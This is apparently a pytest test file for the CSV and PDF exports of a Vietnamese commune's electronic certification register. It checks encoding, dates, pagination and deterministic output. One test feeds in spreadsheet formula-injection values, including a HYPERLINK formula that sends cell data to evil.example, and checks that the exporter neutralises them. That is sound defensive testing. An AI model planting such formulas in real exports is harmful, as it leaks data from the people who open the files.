"""The certification register's exports: the CSV a spreadsheet opens, the PDF that is signed.

The PDF's text is read back through each font's ToUnicode map with pikepdf (a unit test
starts no program, so not with ``pdftotext``): what a reader's copy-and-paste or a search
finds is what these tests check.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from dataclasses import replace
from datetime import UTC, date, datetime

import pikepdf
import pytest

from certify.register_book import RegisterEntry, RegisterPeriod, register_csv, register_pdf

HEADER = [
    "Số chứng thực",
    "Quyển số",
    "Ngày chứng thực",
    "Họ tên người yêu cầu",
    "Tên giấy tờ",
    "Số bản",
    "Họ tên, chức danh người ký",
    "Lệ phí (đồng)",
    "Ghi chú",
    "Mã hồ sơ",
]
PERIOD = RegisterPeriod(
    unit_code="31234",
    unit_name="UBND xã Tân Phú",
    date_from=date(2026, 3, 1),
    date_to=date(2026, 3, 31),
)
ENTRY = RegisterEntry(
    number=137,
    book_label="01/2026-SCTĐT/BS",
    certified_at=datetime(2026, 3, 4, 18, 30, tzinfo=UTC),
    requester="Phạm Văn Đức",
    paper="Giấy khai sinh",
    copies=2,
    officer_name="Trần Thị Bình",
    officer_title="Phó Chủ tịch UBND xã",
    fee=20000,
    note=None,
    dossier_code="HS-2026-000137",
    document_id="doc-137",
)


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_row(entry: RegisterEntry) -> dict[str, str]:
    header, row = rows(register_csv(PERIOD, [entry]))
    return dict(zip(header, row, strict=True))


def pdf_pages(data: bytes) -> list[list[str]]:
    """Each page's text pieces (one a text object, i.e. a drawn line), decoded as a reader does."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pages = []
        for page in pdf.pages:
            fonts = {str(name): to_unicode(font) for name, font in page.Resources.Font.items()}
            pieces: list[str] = []
            font: dict[bytes, str] = {}
            for operands, operator in pikepdf.parse_content_stream(page, "BT Tf Tj TJ"):
                if str(operator) == "BT":
                    pieces.append("")
                elif str(operator) == "Tf":
                    font = fonts[str(operands[0])]
                else:
                    strings = operands if str(operator) == "Tj" else operands[0]
                    raw = b"".join(bytes(s) for s in strings if isinstance(s, pikepdf.String))
                    pieces[-1] += "".join(font[raw[i : i + 2]] for i in range(0, len(raw), 2))
            pages.append([piece for piece in pieces if piece])
        return pages


def to_unicode(font: pikepdf.Object) -> dict[bytes, str]:
    cmap = font.ToUnicode.read_bytes().decode("ascii")
    pairs = re.findall(r"<([0-9A-F]{4})>\s*<([0-9A-F]+)>", "".join(cmap.split("bfchar")[1::2]))
    return {bytes.fromhex(code): bytes.fromhex(text).decode("utf-16-be") for code, text in pairs}


def numbered(count: int) -> list[RegisterEntry]:
    return [
        replace(ENTRY, number=n, requester=f"Người yêu cầu {n}", dossier_code=f"HS-{n:04d}")
        for n in range(1, count + 1)
    ]


def test_csv_has_bom_and_the_registers_header() -> None:
    data = register_csv(PERIOD, [ENTRY])
    assert data.startswith(b"\xef\xbb\xbf")
    header, row = rows(data)
    assert header == HEADER
    assert row == [
        "137",
        "01/2026-SCTĐT/BS",
        "05/03/2026",
        "Phạm Văn Đức",
        "Giấy khai sinh",
        "2",
        "Trần Thị Bình, Phó Chủ tịch UBND xã",
        "20000",
        "",
        "HS-2026-000137",
    ]


def test_csv_keeps_the_given_order_and_has_only_the_header_when_empty() -> None:
    later, earlier = replace(ENTRY, number=9), replace(ENTRY, number=3)
    assert [row[0] for row in rows(register_csv(PERIOD, [later, earlier]))[1:]] == ["9", "3"]
    assert rows(register_csv(PERIOD, [])) == [HEADER]


def test_csv_writes_composed_vietnamese() -> None:
    decomposed = unicodedata.normalize("NFD", "Nguyễn Thị Hồng Nhung")
    row = csv_row(replace(ENTRY, requester=decomposed, note="Bản sao từ sổ gốc"))
    assert row["Họ tên người yêu cầu"] == "Nguyễn Thị Hồng Nhung"
    assert unicodedata.is_normalized("NFC", row["Họ tên người yêu cầu"])
    assert row["Ghi chú"] == "Bản sao từ sổ gốc"


@pytest.mark.parametrize(
    ("moment", "day"),
    [
        (datetime(2026, 3, 4, 18, 30, tzinfo=UTC), "05/03/2026"),
        (datetime(2026, 3, 4, 16, 59, tzinfo=UTC), "04/03/2026"),
        (datetime(2026, 3, 4, 17, 0, tzinfo=UTC), "05/03/2026"),
    ],
)
def test_csv_dates_are_days_in_vietnam(moment: datetime, day: str) -> None:
    assert csv_row(replace(ENTRY, certified_at=moment))["Ngày chứng thực"] == day


def test_a_time_without_its_zone_is_refused() -> None:
    with pytest.raises(ValueError, match="time zone"):
        register_csv(PERIOD, [replace(ENTRY, certified_at=datetime(2026, 3, 4, 18, 30))])


def test_csv_fee_is_blank_when_none_was_recorded() -> None:
    assert csv_row(replace(ENTRY, fee=None))["Lệ phí (đồng)"] == ""
    assert csv_row(replace(ENTRY, fee=0))["Lệ phí (đồng)"] == "0"


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+84 912", "-1+2", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_csv_neutralises_what_a_spreadsheet_would_run(typed: str) -> None:
    row = csv_row(replace(ENTRY, requester=typed, paper=typed, note=typed))
    for column in ("Họ tên người yêu cầu", "Tên giấy tờ", "Ghi chú"):
        assert row[column] == "'" + typed


def test_csv_leaves_ordinary_text_alone() -> None:
    row = csv_row(replace(ENTRY, requester="Lê-Nguyễn An", note="Cấp lại - lần 2 (= bản 1)"))
    assert row["Họ tên người yêu cầu"] == "Lê-Nguyễn An"
    assert row["Ghi chú"] == "Cấp lại - lần 2 (= bản 1)"


def test_pdf_shows_title_unit_period_and_the_entry() -> None:
    data = register_pdf(PERIOD, [replace(ENTRY, fee=1250000)])
    assert data.startswith(b"%PDF-")
    [page] = pdf_pages(data)
    for text in (
        "SỔ CHỨNG THỰC BẢN SAO ĐIỆN TỬ",
        "Đơn vị: UBND xã Tân Phú (31234)",
        "Từ ngày 01/03/2026 đến ngày 31/03/2026",
        "137",
        "05/03/2026",
        "Phạm Văn Đức",
        "1.250.000",
        "Tổng số chứng thực trong kỳ: 1.",
        "Trang 1/1",
    ):
        assert text in page


def test_pdf_writes_composed_vietnamese() -> None:
    decomposed = unicodedata.normalize("NFD", "Lê Thị Ánh")
    [page] = pdf_pages(register_pdf(PERIOD, [replace(ENTRY, requester=decomposed)]))
    assert "Lê Thị Ánh" in page


def test_pdf_of_many_entries_repeats_the_heading_and_numbers_its_pages() -> None:
    pages = pdf_pages(register_pdf(PERIOD, numbered(120)))
    assert len(pages) > 1
    for n, page in enumerate(pages, start=1):
        assert "Họ tên người yêu cầu" in page
        assert f"Trang {n}/{len(pages)}" in page
    every = [piece for page in pages for piece in page]
    assert [every.index(f"HS-{n:04d}") for n in range(1, 121)] == sorted(
        every.index(f"HS-{n:04d}") for n in range(1, 121)
    )
    assert "Tổng số chứng thực trong kỳ: 120." in pages[-1]


def test_pdf_of_an_empty_period_says_so_under_the_heading() -> None:
    [page] = pdf_pages(register_pdf(PERIOD, []))
    assert "Họ tên người yêu cầu" in page
    assert "Mã hồ sơ" in page
    assert "Không có chứng thực nào trong kỳ này." in page
    assert "Tổng số chứng thực trong kỳ: 0." in page
    [with_entry] = pdf_pages(register_pdf(PERIOD, [ENTRY]))
    assert "Không có chứng thực nào trong kỳ này." not in with_entry


def test_pdf_prints_a_very_long_note_cut_and_the_csv_keeps_it_whole() -> None:
    note = "Người yêu cầu trình bày thêm. " * 100
    entry = replace(ENTRY, note=note)
    assert register_pdf(PERIOD, [entry]).startswith(b"%PDF-")
    assert csv_row(entry)["Ghi chú"] == note


def test_pdf_is_the_same_bytes_for_the_same_inputs() -> None:
    entries = numbered(30)
    assert register_pdf(PERIOD, entries) == register_pdf(PERIOD, list(entries))
    assert register_pdf(PERIOD, entries) != register_pdf(PERIOD, entries[:29])
    assert register_csv(PERIOD, entries) == register_csv(PERIOD, entries)
    with pikepdf.open(io.BytesIO(register_pdf(PERIOD, entries))) as pdf:
        # dated by the period, not by the clock: exporting again next week gives the same file
        assert str(pdf.docinfo["/CreationDate"]).startswith("D:20260331")
